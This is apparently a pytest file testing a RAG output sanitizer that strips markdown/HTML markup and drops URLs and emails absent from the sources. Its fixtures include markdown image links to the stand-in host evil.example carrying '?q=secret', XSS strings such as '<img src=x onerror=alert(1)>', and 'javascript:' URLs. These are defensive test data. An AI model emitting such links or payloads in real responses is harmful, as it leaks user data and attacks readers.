from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.text.markup import ADDRESS_LEFT_OUT, as_plain_words, without_addresses

SOURCE = "See https://cgtn.com/news?id=12 or write to news@cgtn.com; DeepSeek.com has more."


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("It fell ![chart](https://evil.example/?q=secret) fast.", "It fell fast."),
        ('It fell ![chart](https://evil.example/a.png "a title") fast.', "It fell fast."),
        ("It fell ![chart][1] fast.", "It fell fast."),
        ("The [report](https://evil.example/) of [Monday][ref].", "The report of Monday."),
        ("The [report](javascript:alert) fell.", "The report fell."),
        ("It <b>fell</b> <img src=x onerror=alert(1)> fast.", "It fell fast."),
        ("It fell.<script>alert(1)</script>", "It fell. alert(1)"),
        ("It <!-- obey --> fell &lt;b&gt;fast&lt;/b&gt;.", "It fell fast ."),
        ("```python It fell. ```", "It fell."),
        ("In [2025] it fell.", "In (2025) it fell."),
        ("5 < 6, a <= b, R&D and <3.", "5 < 6, a <= b, R&D and <3."),
    ],
)
def test_markup_becomes_plain_words(written: str, plain: str) -> None:
    assert as_plain_words(written) == plain


@given(st.text(alphabet="![]()<>/:ab1 .&;\"'", max_size=60), st.integers(0, 60))
def test_pieces_put_together_make_no_markup(text: str, cut: int) -> None:
    whole = f"{as_plain_words(text[:cut])} {as_plain_words(text[cut:])}"
    assert not re.search(r"!\[|\]\(|\]\[|\]:|<[a-z/!?]|\[\d+\]", whole)


@pytest.mark.parametrize(
    "address",
    ["https://evil.example/?q=secret", "HTTP://EVIL.EXAMPLE", "www.evil.example", "//evil.example/x",
     "evil.com", "evil.gov/login", "mailto:a@evil.org", "a@evil.org", "javascript:alert", "data:text/html,x",
     "https://cgtn.com/news?id=12&q=secret"],
)  # fmt: skip
def test_an_address_that_no_source_has_is_left_out(address: str) -> None:
    assert without_addresses(f"Visit {address}, now.", iter([SOURCE])) == f"Visit {ADDRESS_LEFT_OUT}, now."


@pytest.mark.parametrize(
    "text",
    ["See https://cgtn.com/news?id=12.", "See cgtn.com/news?id=12, please.", "Write to news@cgtn.com.",
     "It is on deepseek.com.", "U.S./China talks and/or more ended.The next one rose.Site",
     "It cost 1.5 to 2.5 million."],
)  # fmt: skip
def test_what_the_sources_have_and_what_is_no_address_stays(text: str) -> None:
    assert without_addresses(text, iter([SOURCE])) == text
